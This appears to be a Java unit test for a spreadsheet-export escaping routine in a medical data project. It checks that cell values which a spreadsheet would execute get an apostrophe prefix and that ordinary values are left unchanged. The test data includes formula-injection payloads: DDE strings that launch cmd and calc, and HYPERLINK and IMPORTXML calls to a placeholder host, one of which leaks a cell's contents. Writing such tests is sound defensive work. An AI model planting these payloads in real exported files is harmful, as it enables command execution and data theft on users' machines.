package org.mrdmonitor.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** SE-01 and SE-04: texts that a spreadsheet would run. */
class FormulaSafeTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|'/C calc'!A0",
        "=1+1",
        "=\"a\"",
        "==1",
        "= 1",
        "=HYPERLINK(\"http://x\",\"y\")",
        "=IMPORTXML(CONCAT(\"http://x\",A1))",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "@",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+A1",
        "+",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-",
        "--1",
        "-A1",
        "\t=1+1",
        "\t",
        "\r=1",
        "\n=1",
        "\u0000=1",
        " =1+1",
        "   @SUM(A1)",
        "\u00a0=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " ＝1",
        "'=1",
        "''=1",
        "' =1",
        "'@x",
        "=1\n=2",
        "=\u0000",
        "-1,5",
        "+49 30 1234",
        "-1e",
        "=-1"
      })
  void guardsWhatASpreadsheetWouldRun(String text) {
    assertThat(FormulaSafe.guarded(text)).isEqualTo("'" + text);
    assertThat(FormulaSafe.unguarded("'" + text)).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "-4.92",
        "+1",
        "1E-5",
        "-1.2e+10",
        "0.0012",
        "<0.001",
        ">10",
        "not detected",
        "O'Brien",
        "'t Hooft",
        "'",
        "x=1",
        "a@b.org",
        "BCR::ABL1",
        "1-2"
      })
  void leavesNumbersAndHarmlessTextsAlone(String text) {
    assertThat(FormulaSafe.guarded(text)).isEqualTo(text);
    assertThat(FormulaSafe.unguarded(text)).isEqualTo(text);
  }

  @Property(seed = "20261122")
  void everyTextComesBack(@ForAll("texts") String text) {
    assertThat(FormulaSafe.unguarded(FormulaSafe.guarded(text))).isEqualTo(text);
  }

  @Provide
  Arbitrary<String> texts() {
    return Arbitraries.strings().withChars("'=+-@ \t\n\r\u0000＝a1.e").ofMaxLength(8);
  }
}
